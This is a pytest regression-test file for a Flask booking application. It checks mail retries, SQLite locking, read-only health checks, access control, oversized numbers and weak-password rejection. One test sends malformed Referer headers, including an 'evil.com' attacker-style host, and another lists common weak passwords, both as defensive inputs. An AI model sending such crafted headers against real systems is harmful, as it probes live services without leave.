    while True:
        assert notify.send_pending_mail(now) == (0, 1)
        runs += 1
        db.session.refresh(row)
        if row.email_attempts >= notify.MAX_MAIL_ATTEMPTS:
            break
        assert row.email_next_at - now <= timedelta(hours=6)
        now = row.email_next_at
    assert runs == notify.MAX_MAIL_ATTEMPTS
    assert notify.send_pending_mail(now + timedelta(days=30)) == (0, 0)  # given up, and shown to the admin
    assert notify.undelivered_count() == 1
    assert timedelta(days=13) <= now - first <= timedelta(days=15)  # "about two weeks"
    assert notify.retry_delay(10 ** 6) == timedelta(hours=6)


def test_sqlite_waits_no_longer_than_its_lock_timeout_for_a_lock_taken_outside_the_app(tmp_path, monkeypatch):
    # Reproduced: SQLITE_LOCK_TIMEOUT=3 and a sqlite3 shell holding BEGIN IMMEDIATE for 8 s: four creates waited
    # 8.1 s and answered 201, none 503 at 3 s. Served from an SQLite file of its own on either test database.
    import sqlite3
    import time
    from flask_migrate import upgrade
    from booking import create_app
    from tests import world as district
    monkeypatch.setenv("SQLITE_LOCK_TIMEOUT", "1")
    path = tmp_path / "locked.db"
    app = create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}", "TESTING": True,
                      "PASSWORD_HASH_METHOD": "pbkdf2:sha256:1000"})
    assert app.config["SQLITE_LOCK_TIMEOUT"] == 1.0  # read from the environment
    with app.app_context():
        upgrade()
        district.load()
        client = app.test_client()
        shell = sqlite3.connect(path, isolation_level=None)
        shell.execute("BEGIN IMMEDIATE")
        try:
            started = time.monotonic()
            r = client.post(TOKEN, json={"username": "secretary", "password": PASSWORD})  # writes last_login_at
            waited = time.monotonic() - started
        finally:
            shell.execute("ROLLBACK")
            shell.close()
        assert r.status_code == 503 and r.headers.get("Retry-After"), r.get_json()
        assert 0.9 <= waited < 2.5, waited
        assert client.post(TOKEN, json={"username": "secretary", "password": PASSWORD}).status_code == 200
        db.session.remove()
        db.engine.dispose()


def test_healthz_on_a_read_only_sqlite_file_system_says_so(tmp_path):
    # Reproduced: on a read-only SQLite database /healthz said "database unreachable", not the read-only reason
    # the README gives (PostgreSQL did). A real read-only file system: the folder bind-mounted read-only.
    import subprocess
    from flask_migrate import upgrade
    from booking import create_app
    folder = tmp_path / "ro"
    folder.mkdir()
    uri = f"sqlite:///{folder / 'booking.db'}"
    app = create_app({"SQLALCHEMY_DATABASE_URI": uri, "TESTING": True})
    with app.app_context():
        upgrade()
        db.engine.dispose()
    subprocess.run(["mount", "--bind", str(folder), str(folder)], check=True)
    try:
        subprocess.run(["mount", "-o", "remount,ro,bind", str(folder)], check=True)
        app = create_app({"SQLALCHEMY_DATABASE_URI": uri, "TESTING": True})
        with app.app_context():
            r = app.test_client().get("/healthz")
            assert r.status_code == 503 and r.get_json() == {"status": "error", "detail": "database file is read-only"}
            db.engine.dispose()
    finally:
        subprocess.run(["umount", str(folder)], check=True)


def test_a_lecturer_who_declined_no_longer_reads_the_booking(world, api, client):
    # Reproduced: after declining, the lecturer still read the contact phone, roster and history, and the booking
    # stayed in their list until someone else was invited. Same rule as former partners: 404.
    from tests.conftest import login
    from tests.factories import user
    from tests.test_lecturers import _lecture_booking
    b = _lecture_booking()
    zhang = user("lecturer").lecturer
    assert api.put(f"/api/v1/bookings/{b.id}/lecturer", as_="manager", json={"lecturer_id": zhang.id}).status_code == 200
    assert api.get(f"/api/v1/bookings/{b.id}", as_="lecturer").status_code == 200
    assert api.post(f"/api/v1/bookings/{b.id}/lecturer/decline", as_="lecturer", json={}).status_code == 200
    for url in (f"/api/v1/bookings/{b.id}", f"/api/v1/bookings/{b.id}/history", f"/api/v1/bookings/{b.id}/roster"):
        assert api.get(url, as_="lecturer").status_code == 404, url
    assert b.id not in [x["id"] for x in api.get("/api/v1/bookings", as_="lecturer").get_json()["items"]]
    login(client, "lecturer")
    assert client.get(f"/bookings/{b.id}").status_code == 404
    assert b.contact_phone not in client.get(f"/schedule?month={b.starts_at:%Y-%m}").get_data(as_text=True)


HUGE = "1" * 30


def test_huge_numbers_in_any_pages_query_string_are_never_a_500(world, client):
    # Reproduced: GET /bookings/new?item_id=111111111111111111111111111111 (manager) and /series/new?item_id=…
    # answered 500 (SQLite: "int too large"). Every page without a path parameter, as every role, with every
    # query parameter the pages read set to a number no column holds.
    from tests.conftest import login
    names = ["item_id", "venue_id", "base_id", "branch_id", "org", "page", "year", "month", "lecturer_id",
             "week", "day", "date", "from", "to", "menu_item_id", "booking_id", "status", "q", "group_by", "id"]
    query = "&".join(f"{n}={HUGE}" for n in names)
    rules = [r for r in world.url_map.iter_rules() if "GET" in r.methods and not r.arguments
             and not r.rule.startswith(("/api/", "/logout", "/static"))]
    assert len(rules) >= 30
    for role in ("admin", "manager", "secretary", "lecturer"):
        client.post("/logout")
        login(client, role)
        for rule in rules:
            for q in [query] + [f"{n}={HUGE}" for n in names[:4]] + [f"{n}=-{HUGE}" for n in names[:2]]:
                r = client.get(f"{rule.rule}?{q}")
                assert r.status_code < 500, (role, rule.rule, q[:40], r.status_code)


def test_huge_numbers_in_the_apis_query_and_body_are_a_422(world, api):
    r = api.get("/api/v1/bookings?base_id=99999999999", as_="admin")
    assert r.status_code in (200, 422), r.get_json()
    r = api.post("/api/v1/bookings", as_="secretary", json={"menu_item_id": 10 ** 30, "start": "2030-01-01T09:00:00",
                                                            "headcount": 10 ** 20})
    assert r.status_code == 422 and {"menu_item_id", "headcount"} <= set(r.get_json()["error"]["fields"])


@pytest.mark.parametrize("referer", ["https://localhost:5743.evil.com/", "https://[::1/", "https://localhost:99999/",
                                     "https://localhost:-1/"])
def test_a_malformed_referer_over_https_is_a_400(world, referer):
    # Reproduced: over HTTPS, POST /notifications/read-all with a valid form token and
    # Referer: https://host:5743.evil.com/ answered 500 (Flask-WTF's referrer check failed parsing the port).
    world.config.update(WTF_CSRF_ENABLED=True, HTTPS=True)
    client = world.test_client()
    https = {"base_url": "https://localhost"}
    token = client.get("/login", **https).get_data(as_text=True).split(
        'name="csrf_token" type="hidden" value="')[1].split('"')[0]
    r = client.post("/login", data={"username": "secretary", "password": PASSWORD, "csrf_token": token},
                    headers={"Referer": "https://localhost/login"}, **https)
    assert r.status_code == 302
    from flask import g
    g.pop("csrf_token", None)  # the requests share the test's app context: Flask-WTF's cached token goes
    token = client.get("/notifications", **https).get_data(as_text=True).split(  # the session's new token
        'name="csrf_token" value="')[1].split('"')[0]
    r = client.post("/notifications/read-all", data={"csrf_token": token}, headers={"Referer": referer}, **https)
    assert r.status_code == 400, r.status_code
    assert "请" in r.get_data(as_text=True)  # the Chinese error page, not a bare traceback
    r = client.post("/notifications/read-all", data={"csrf_token": token},
                    headers={"Referer": "https://localhost/notifications"}, **https)
    assert r.status_code == 302


def test_reset_links_are_never_kept_in_the_outbox(world, client):
    # Reproduced: notifications.body held the live /reset/<token>: anyone with a backup could reset the account
    # within the hour. The link is written into the email as it is sent; the stored row never holds it.
    import re
    from booking.jobs.services import run_job
    from models import Notification
    from tests.mail import smtp_server
    with smtp_server(world) as received:
        client.post("/forgot", data={"identifier": "secretary"})
        stored = db.session.scalars(db.select(Notification.body).where(Notification.kind == "password_reset")).all()
        assert len(stored) == 1 and "/reset/" not in stored[0] and "链接" in stored[0]
        assert run_job("send-mail")[0]
        received.wait_for(1)
    body = received[0].get_payload(decode=True).decode()
    path = re.search(r"http://localhost(/reset/\S+)", body).group(1)
    assert client.get(path).status_code == 200  # the link works
    stored = db.session.scalars(db.select(Notification.body).where(Notification.kind == "password_reset")).all()
    assert "/reset/" not in stored[0]  # and, sent, is still nowhere in the database


@pytest.mark.parametrize("who, password", [("secretary2", "woaini520"), ("secretary2", "dangjian2026"),
                                           ("secretary2", "binjiang2026"), ("secretary2", "Binjiang@2026"),
                                           ("manager", "hongxing1921"), ("secretary2", "liqiang888888"),
                                           ("secretary", "5201314abc")])
def test_weak_chinese_passwords_are_refused_on_the_account_page(world, client, who, password):
    # Reproduced: woaini520, dangjian2026 and binjiang2026 (the branch's place in pinyin) were accepted.
    from tests.conftest import login
    login(client, who)
    r = client.post("/account", data={"current": PASSWORD, "new": password, "confirm": password})
    assert r.status_code == 422 and "密码" in r.get_data(as_text=True), password
    assert auth.authenticate(who, PASSWORD, "10.0.0.9")  # unchanged


def test_strong_passwords_still_pass(world):
    from tests.factories import user
    for password in ("brand-new-2026", "Qiu-tian-lu-07!", "s3cret-pass-xyz", "correct horse battery"):
        assert auth.validate_password(password, user("secretary2")) is None, password
